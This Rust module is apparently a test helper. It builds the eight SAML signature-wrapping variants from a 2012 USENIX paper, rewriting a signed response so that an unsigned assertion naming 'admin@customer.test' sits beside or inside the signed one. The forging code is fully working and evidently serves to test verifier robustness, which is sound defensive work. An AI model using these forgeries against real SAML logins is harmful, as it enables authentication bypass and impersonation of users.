//! Signature wrapping: well-signed documents rearranged so that a careless reader takes the wrong part.
//!
//! The numbers are those of "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012). All work on documents with the
//! prefixes `saml`, `samlp` and `dsig`, signed as wanted, as [`Dialect::KEYCLOAK`](super::Dialect::KEYCLOAK) writes them.

/// The one who wants in.
pub const VILLAIN: &str = "admin@customer.test";

/// Rearranges a signed response in the way of this number, 1 to 8, and makes the unsigned part speak of [`VILLAIN`].
///
/// # Panics
/// If the document is not as expected, or there is no such way.
pub fn wrapped(xml: &str, way: u8) -> String {
    let parts = Parts::of(xml);
    match way {
        1 => parts.response_inside_signature(),
        2 => parts.response_before_signature(),
        3 => parts.assertion_beside("<!--evil--><!--good-->"),
        4 => parts.assertion_inside(),
        5 => parts.copy_at_the_end(),
        6 => parts.good_inside_evil_signature(),
        7 => parts.assertion_beside("<samlp:Extensions><!--evil--></samlp:Extensions><!--good-->"),
        8 => parts.good_in_an_object(),
        _ => panic!("there are eight"),
    }
}

struct Parts<'a> {
    xml: &'a str,
    assertion: &'a str,
}

impl<'a> Parts<'a> {
    fn of(xml: &'a str) -> Self {
        Self { xml, assertion: between(xml, "<saml:Assertion", "</saml:Assertion>") }
    }

    fn evil(&self) -> String {
        renamed(self.assertion)
    }

    fn unsigned(&self) -> String {
        self.assertion.replacen(between(self.assertion, "<dsig:Signature ", "</dsig:Signature>"), "", 1)
    }

    fn evil_unsigned(&self) -> String {
        renamed(&self.unsigned())
    }

    fn assertion_beside(&self, arrangement: &str) -> String {
        let both = arrangement.replace("<!--evil-->", &self.evil_unsigned()).replace("<!--good-->", self.assertion);
        self.xml.replacen(self.assertion, &both, 1)
    }

    fn assertion_inside(&self) -> String {
        let evil = self.evil_unsigned().replace("</saml:Assertion>", &format!("{}</saml:Assertion>", self.assertion));
        self.xml.replacen(self.assertion, &evil, 1)
    }

    fn copy_at_the_end(&self) -> String {
        self.xml.replacen(self.assertion, &format!("{}{}", self.evil(), self.unsigned()), 1)
    }

    fn good_inside_evil_signature(&self) -> String {
        let evil = self.evil().replacen("</dsig:Signature>", &format!("{}</dsig:Signature>", self.unsigned()), 1);
        self.xml.replacen(self.assertion, &evil, 1)
    }

    fn good_in_an_object(&self) -> String {
        let object = format!("<dsig:Object>{}</dsig:Object></dsig:Signature>", self.unsigned());
        self.xml.replacen(self.assertion, &self.evil().replacen("</dsig:Signature>", &object, 1), 1)
    }

    /// The whole signed response, without its own signature, and that signature.
    fn response(&self) -> (String, &'a str) {
        let before = self.xml.split_once("<samlp:Status").map_or(self.xml, |(before, _)| before);
        let signature = between(before, "<dsig:Signature ", "</dsig:Signature>");
        (self.xml.replacen(signature, "", 1), signature)
    }

    fn response_inside_signature(&self) -> String {
        let (good, signature) = self.response();
        let holding = signature.replacen("</dsig:Signature>", &format!("{good}</dsig:Signature>"), 1);
        self.evil_response(&holding)
    }

    fn response_before_signature(&self) -> String {
        let (good, signature) = self.response();
        self.evil_response(&format!("{good}{signature}"))
    }

    fn evil_response(&self, instead_of_signature: &str) -> String {
        let (good, signature) = self.response();
        let evil = self.xml.replacen(self.assertion, &self.evil(), 1);
        assert_ne!(good, self.xml, "the response has to be signed");
        evil.replacen(signature, instead_of_signature, 1).replacen("ID=\"_response-1\"", "ID=\"_evil-0\"", 1)
    }
}

/// The assertion as the villain's, with identifiers of its own: duplicates would give it away at once.
fn renamed(assertion: &str) -> String {
    let villains = assertion.replace("ada@customer.test", VILLAIN).replace("ID=\"_assertion-1\"", "ID=\"_evil-1\"");
    villains.replace("Id=\"sig_assertion-1\"", "Id=\"sig_evil-1\"")
}

/// The first piece from `begin` to `end`, both in it.
fn between<'a>(text: &'a str, begin: &str, end: &str) -> &'a str {
    let start = text.find(begin).expect("the beginning is there");
    let rest = text.get(start..).unwrap_or_default();
    let length = rest.find(end).expect("the end is there") + end.len();
    rest.get(..length).unwrap_or_default()
}
